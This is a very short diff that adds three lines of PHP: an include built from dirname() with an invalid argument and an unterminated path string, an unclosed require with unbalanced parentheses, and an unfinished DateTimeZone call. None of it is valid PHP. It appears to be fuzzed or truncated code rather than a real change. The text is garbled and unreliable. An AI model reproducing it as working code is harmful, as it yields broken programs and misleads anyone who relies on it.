@@ -1,0 +1,3 @@
+<?php include dirname(dirname(__DIR__,9,"/x.$
+require (((@__DIR__ . 
+new DateTimeZone("
